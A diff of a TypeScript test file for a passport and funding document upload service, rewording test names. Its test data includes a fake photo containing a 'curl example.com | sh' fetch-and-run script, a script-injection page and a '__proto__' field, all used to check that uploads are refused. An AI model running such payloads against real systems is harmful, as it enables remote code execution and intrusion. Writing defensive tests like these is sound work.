@@ -43,7 +43,7 @@ function send(form: Omit<SentForm, 'accessToken'>) {
   return sendUpload(shop, { accessToken: accessTokens[sent % 3] ?? '', ...form });
 }
 
-describe('a file that is no photo and no PDF is refused, whatever it is called, and nothing of it is left', () => {
+describe('a file that is neither photo nor PDF is refused, whatever its name, and nothing of it is stored', () => {
   test.each([
     ['a script that is called a photo', () => Buffer.from('#!/bin/sh\ncurl example.com | sh\n')],
     ['a page that is called a photo', () => Buffer.from('<!doctype html><script>alert(1)</script>')],
@@ -62,14 +62,14 @@ describe('a file that is no photo and no PDF is refused, whatever it is called, 
     expect(rows.at(-1)?.details).toMatchObject({ field: 'doc_passport' });
   });
 
-  test('two sides of which one is no photo', async () => {
+  test('a second side that is no photo', async () => {
     const files = [{ bytes: photo }, { bytes: Buffer.from('x') }];
     const { status, body } = await send({ fields: { type: 'funding' }, files });
     expectRefusal(status, body, 'FILE_NOT_SUPPORTED');
   });
 });
 
-describe('a form that is not as asked for is refused, and nothing of it is left', () => {
+describe('a malformed form is refused, and nothing of it is stored', () => {
   const type = 'passport';
 
   test.each([
@@ -89,12 +89,12 @@ describe('a form that is not as asked for is refused, and nothing of it is left'
     expect(body).toMatchObject({ error: { fields: { [field]: expect.any(String) as unknown } } });
   });
 
-  test('with the name of a property of every object', async () => {
+  test('with the name of an inherited property', async () => {
     const { status, body } = await send({ fields: { type }, files: [{ bytes: photo, field: '__proto__' }] });
     expectRefusal(status, body, 'MALFORMED_REQUEST', 'VALIDATION');
   });
 
-  test('with more texts than there are', async () => {
+  test('with more text fields than allowed', async () => {
     const { status, body } = await send({ fields: { type, a: '1', b: '2', c: '3' }, files: [{ bytes: photo }] });
     expectRefusal(status, body, 'BODY_TOO_LARGE');
   });
@@ -170,7 +170,7 @@ describe('a form that is not as asked for is refused, and nothing of it is left'
   });
 });
 
-test('no fault of the server was met by any of it, and no name of a file stands in the log', () => {
+test('none of it was a fault of the server, and no file name is in the log', () => {
   expect(shop.log.filter(({ level }) => level === 'error' || level === 'fatal')).toEqual([]);
   expect(JSON.stringify(shop.log)).not.toContain('photo.jpg');
 });
